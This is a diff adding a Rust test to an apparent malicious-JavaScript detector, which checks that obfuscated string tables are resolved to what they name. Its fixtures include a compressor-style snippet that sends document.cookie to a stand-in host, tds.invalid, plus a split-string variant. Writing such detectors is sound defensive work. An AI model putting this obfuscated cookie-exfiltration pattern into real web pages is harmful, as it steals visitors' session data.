@@ -990,6 +990,46 @@ mod tests {
         assert_eq!(features(&analyse(utility), None, ctx).signals & DECODE, 0);
     }
 
+    /// A table of strings read by index (or through a decoder function) gives the code that
+    /// reads it what the table names, whether written as an array or as a compressor writes
+    /// one; a list of ordinary words does not.
+    #[test]
+    fn string_tables_are_read_where_they_are_used() {
+        let ctx = Context::default();
+        let table = r#"var _0x1 = ["open", "GET", "send", "cookie", "referrer", "hostname",
+              "https://tds.invalid/s.php?id=", "XMLHttpRequest", "eval", "responseText"];
+            var _0x2 = function (i) { return _0x1[i - 0]; };
+            (function () {
+              var x = new window[_0x2(7)]();
+              x[_0x2(0)](_0x2(1), _0x2(6) + document[_0x2(3)]);
+              x[_0x2(2)]();
+            })();"#;
+        let f = features(&analyse(table), None, ctx);
+        for bit in [
+            SINK_XHR,
+            DYN_EVAL,
+            SRC_STORAGE,
+            VISITOR_CHECK,
+            DECODED_NAME,
+            HIDDEN_TEXT,
+        ] {
+            assert_ne!(f.signals & bit, 0, "{}", signals::describe(bit));
+        }
+        assert_eq!(f.new_hosts, ["tds.invalid"]);
+        let split =
+            "var t = `open,GET,send,cookie,referrer,hostname,XMLHttpRequest,eval`.split(`,`);
+            (function(){ new window[t[6]]()[t[2]](document[t[3]]) })();";
+        assert_ne!(features(&analyse(split), None, ctx).signals & SINK_XHR, 0);
+        let months = r#"var m = ["January", "February", "March", "April", "May", "June", "July",
+              "August", "September", "October", "November", "December"];
+            function name(d) { return m[d.getMonth()]; }"#;
+        assert_eq!(
+            features(&analyse(months), None, ctx).signals & (DECODED_NAME | HIDDEN_TEXT),
+            0,
+            "a list of words is no string table"
+        );
+    }
+
     /// Code kept in strings (template pieces for `Function`, lines joined into a worker's
     /// `Blob`) counts where the code holding it runs code, and nowhere else.
     #[test]
